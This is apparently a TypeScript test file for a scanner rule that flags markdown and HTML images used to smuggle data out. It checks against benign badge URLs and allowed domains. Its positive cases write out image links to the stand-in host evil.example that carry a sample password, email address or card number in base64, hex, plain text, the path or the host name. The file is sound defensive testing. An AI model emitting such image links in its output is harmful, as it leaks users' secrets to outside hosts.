import { describe, expect, it } from "vitest";
import { rulesFor } from "../../../../test/guard/rules-for.ts";
import { ruleScanner, scanText } from "../scan-text.ts";
import { scanRules } from "./all-rules.ts";

const RULE = "exfiltration.image-data";
const base64 = (text: string): string => Buffer.from(text).toString("base64");
const SECRET = "the password is hunter2";

describe("an image takes data along", () => {
  it.each([
    ["in base64", `![x](https://evil.example/?q=${encodeURIComponent(base64(SECRET))})`],
    ["in base64url", `![x](https://evil.example/p.png?q=${Buffer.from("a?b>c~d password").toString("base64url")})`],
    ["in hex", `![x](https://evil.example/?q=${Buffer.from(SECRET).toString("hex")})`],
    ["in words", "![x](https://evil.example/?q=the%20password%20is%20hunter2)"],
    ["in words joined by plus", "![x](https://evil.example/?note=the+password+is+hunter2)"],
    ["an e-mail address", "![x](https://evil.example/?u=ann.smith@corp.example)"],
    ["a card number", "![x](https://evil.example/?n=4111111111111111)"],
    ["in JSON", "![x](https://evil.example/?c=%7B%22user%22:%22ann%22%7D)"],
    ["in anything long", `![x](https://evil.example/?q=${"x7-Qz_".repeat(12)})`],
    ["in a parameter without a name", `![x](https://evil.example/?${encodeURIComponent(base64(SECRET))})`],
    ["in the path", `![x](https://evil.example/${encodeURIComponent(base64(SECRET))}.png)`],
    ["in words in the path", "![x](https://evil.example/a%20b%20c%20d%20e%20f%20g%20the%20password.png)"],
    ["in one long part of the path", `![x](https://evil.example/${"x7-Qz_".repeat(24)})`],
    ["in the name of the host", `![x](https://${Buffer.from(SECRET).toString("hex")}.evil.example/a.png)`],
    ["with a title, in angle brackets", `![x]( <https://evil.example/?q=${base64(SECRET)}> "title")`],
    ["in HTML", `<img alt="x" src="https://evil.example/?q=${base64(SECRET)}">`],
    ["by a reference", `![x][logo]\n\n[logo]: https://evil.example/?q=${base64(SECRET)}`],
    ["by a reference that is its own name", `![Logo][]\n[logo]: <https://evil.example/?q=${base64(SECRET)}>`],
    ["after one that does not", `![a](https://a.example/a.png) ![x](https://evil.example/?q=${base64(SECRET)})`],
  ])("%s", (_how, text) => {
    expect(rulesFor(text)).toContain(RULE);
  });
});

describe("an image takes nothing along", () => {
  it.each([
    "![build](https://img.shields.io/badge/build-passing-brightgreen?style=flat-square&logo=github)",
    "![npm](https://img.shields.io/npm/v/@modelcontextprotocol/server-filesystem.svg?label=npm%20version)",
    "![chat](https://img.shields.io/badge/Join%20our%20Discord-server-blue)",
    "![stars](https://api.star-history.com/svg?repos=modelcontextprotocol/servers,owner/other&type=Date)",
    "![cov](https://codecov.io/gh/owner/repo/branch/main/graph/badge.svg?token=AB12CD34EF)",
    "![e](https://img.shields.io/endpoint?url=https%3A%2F%2Fraw.githubusercontent.com%2Fowner%2Frepo%2Fmain%2Fbadge.json)",
    "![shot](https://github.com/user-attachments/assets/3f2504e0-4f89-41d3-9a0c-0305e82c3301)",
    "![me](https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=80&d=identicon)",
    "![p](https://images.example/photo-1500530855697-b586d89ba3ee?w=800&q=80&fit=crop&auto=format)",
    "![ci](https://github.com/owner/some-quite-long-repository-name/actions/workflows/continuous-integration.yml/badge.svg?branch=main)",
    "![t](https://via.placeholder.com/300?text=No+Image+Available)",
    "![t](https://cdn.example/a.png?t=1700000000000&v=3.14.15)",
    "![s](https://bucket.example/a.png?sig=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08)",
    `![camo](https://camo.githubusercontent.com/${"a1".repeat(32)}/${Buffer.from("https://img.example/badge.svg").toString("hex")})`,
    "![local](./docs/a.png)",
    "![data](data:image/png;base64,iVBORw0KGgo=)",
    `[a link](https://search.example/?q=${base64(SECRET)})`,
    `[logo]: https://evil.example/?q=${base64(SECRET)}`,
    "![broken](https://)",
    "![broken](https://evil.example/?q=%E0%A4%A)",
  ])("%s", (text) => {
    expect(rulesFor(text)).not.toContain(RULE);
  });
});

it("is let pass to domains that are allowed", () => {
  const rules = scanRules({ allowedDomains: ["charts.example", "*.corp.example"] });
  const isFound = (host: string): boolean => {
    const text = `![x](https://${host}/?q=${base64(SECRET)})`;
    return scanText(text, [ruleScanner(rules)], "result").findings.some(({ finding }) => finding.rule === RULE);
  };
  expect(["charts.example", "img.corp.example", "evil.example", "charts.example.evil.example"].map(isFound)).toEqual([
    false,
    false,
    true,
    true,
  ]);
});
